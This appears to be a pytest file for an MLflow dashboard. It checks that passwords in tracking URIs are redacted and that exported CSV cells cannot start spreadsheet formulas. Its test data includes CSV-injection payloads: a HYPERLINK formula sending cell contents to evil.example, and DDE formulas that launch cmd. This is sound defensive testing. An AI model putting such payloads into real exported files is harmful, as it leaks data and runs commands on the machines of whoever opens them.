"""Text an attacker or a careless user controls comes out harmless: passwords in tracking URIs are
hidden wherever a URI is shown, and exported CSVs never start a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import time
import zipfile

import pytest
from mlflow.exceptions import MlflowException
from mlflow.protos.databricks_pb2 import UNAUTHENTICATED
from mlflow.tracking import MlflowClient
from streamlit.testing.v1 import AppTest

from app import report
from app.analysis import curve_data
from app.data import store, synthetic
from app.page import views
from tests.app_fixtures import *  # noqa: F403
from tests.app_fixtures import REPO, free_port, load
from train import contract
from train.csv_safe import FORMULA_STARTS, safe_csv_cell
from train.messages import redact_uri
from train.tracking import store as tracking_store

SECRET = "s3cr%40t-pw"  # percent-escaped, as a password with an @ is written in a URL

URIS = [
    f"postgresql://bob:{SECRET}@db.example.com:5432/mlflow",
    f"postgresql+psycopg://bob:{SECRET}@db.example.com/mlflow?sslmode=require",
    f"mysql+pymysql://bob:{SECRET}@db.example.com/mlflow",
    f"https://bob:{SECRET}@mlflow.example.com:5000/prefix",
    f"http://bob:{SECRET}@127.0.0.1:5000",
]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


@pytest.mark.parametrize("uri", URIS, ids=["postgresql", "postgresql+psycopg", "mysql", "https", "http"])
def test_every_scheme_is_shown_without_its_password(uri):
    shown = redact_uri(uri)
    assert SECRET not in shown and "s3cr" not in shown
    assert shown.startswith(uri.split("://")[0] + "://bob:***@")
    assert store.display_uri(uri) == shown
    assert report.context_lines(uri, ["lr-study"], {})["tracking store"] == shown


def test_a_refusal_names_the_server_without_its_password(monkeypatch):
    monkeypatch.setenv("MLFLOW_TRACKING_USERNAME", "bob")
    refused = MlflowException("bad credentials", error_code=UNAUTHENTICATED)
    for uri in URIS[3:]:
        assert "s3cr" not in str(tracking_store.access_error(refused, uri)) and "(401 Unauthorized)" in str(tracking_store.access_error(refused, uri))
        assert "s3cr" not in str(store.explain(refused, uri)) and store.explain(refused, uri).kind == "auth"


def test_the_page_hides_a_database_password_in_its_caption_and_its_error(monkeypatch):
    """A PostgreSQL store that is down: the page says so within seconds, and shows no password."""
    uri = f"postgresql://bob:{SECRET}@127.0.0.1:{free_port()}/mlflow"
    monkeypatch.setenv("MLFLOW_TRACKING_URI", uri)
    started = time.monotonic()
    page = AppTest.from_file(str(REPO / "app" / "dashboard.py"), default_timeout=60).run()
    assert time.monotonic() - started < 60, "a database that is down is told in seconds, not after MLflow's ~100 s of retries"
    shown = [element.value.replace("\\", "") for element in (*page.caption, *page.error)]  # Markdown escapes off
    assert not page.exception and page.error and "cannot be opened" in page.error[0].value
    assert all("s3cr" not in text for text in shown), shown
    assert any("bob:***@127.0.0.1" in text for text in shown), shown


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_a_formula_is_text(value):
    assert safe_csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-1e-05", "+3", "-0.5", "plain", "", "a=b", 1.5, None])
def test_numbers_and_plain_text_are_kept(value):
    assert safe_csv_cell(value) == value


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]


def test_exported_csvs_start_no_formula(make_store):
    """Run names, params and tags written as formulas land in every exported CSV as text."""
    uri = make_store()
    client = MlflowClient(tracking_uri=uri)
    experiment_id = client.create_experiment(contract.DEFAULT_EXPERIMENT)
    for i, name in enumerate(FORMULAS):
        params = {**synthetic.params_for(10.0 ** -(i + 2), "full", seed=i), contract.PARAM_SCHEDULE: FORMULAS[-1 - i]}
        synthetic.log_run(client, experiment_id, name=name, params=params, values=synthetic.history(10.0 ** -(i + 2), "full", 3, seed=i), tags={"note": name})
    _, runs, history = load(uri)
    built = views.build(runs, history, curve_data.CurveOptions(), now_ms=time.time() * 1000, stale_after_s=600, ui_base="http://ui")
    archive = zipfile.ZipFile(io.BytesIO(report.report_zip("Study", built.figures(), built.summary, {})))
    csvs = {name: archive.read(name) for name in archive.namelist() if name.endswith(".csv")}
    assert "data/summary.csv" in csvs and len(csvs) > 1
    for name, data in csvs.items():
        risky = [cell for cell in _cells(data) if cell.startswith(FORMULA_STARTS) and safe_csv_cell(cell) != cell]
        assert not risky, (name, risky)
    summary_cells = set(_cells(csvs["data/summary.csv"]))
    assert {"'" + name for name in FORMULAS} <= summary_cells


@pytest.mark.parametrize(("uri", "shown"), [
    ("https://ghp_token123@mlflow.example.com/x", "https://***@mlflow.example.com/x"),  # a token in the user slot
    ("postgresql://bob@db.example.com/mlflow", "postgresql://bob@db.example.com/mlflow"),  # peer auth: no secret
    ("sqlite:///runs/ml%20flow.db", "sqlite:///runs/ml%20flow.db"),  # nothing to hide: as given
    ("mlruns", "mlruns"),
])  # fmt: skip
def test_a_uri_without_a_password_shows_all_but_a_token(uri, shown):
    assert redact_uri(uri) == shown
